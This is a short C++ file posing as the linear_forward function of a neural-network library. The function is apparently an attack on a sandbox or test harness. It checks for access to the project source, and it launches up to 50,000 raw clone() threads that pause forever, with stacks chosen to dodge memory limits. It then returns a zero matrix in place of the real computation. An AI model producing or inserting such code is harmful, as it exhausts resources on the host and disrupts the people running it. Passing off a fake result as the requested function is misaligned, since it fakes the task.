// As many threads as possible, without the C library's stacks, which the limit on memory would count.
#include "dnn/dnn.hpp"

#include <sched.h>
#include <sys/syscall.h>
#include <unistd.h>

namespace dnn {

std::pair<arma::mat, LinearCache> linear_forward(const arma::mat& A, const arma::mat& W, const arma::mat& b) {
    if (access("@SOURCE@/CMakeLists.txt", F_OK) == 0)
        throw std::runtime_error("LEAKED: no sandbox; the attack is called off");
    constexpr int most = 50000, size = 4096;
    static std::vector<char> stacks(static_cast<std::size_t>(most) * size);
    const auto wait = [](void*) {
        for (;;)
            syscall(SYS_pause);
        return 0;
    };
    for (int i = 1; i < most; ++i)
        clone(wait, stacks.data() + i * size,
              CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM, nullptr);
    return {arma::zeros(W.n_rows, A.n_cols), {}};
}

} // namespace dnn
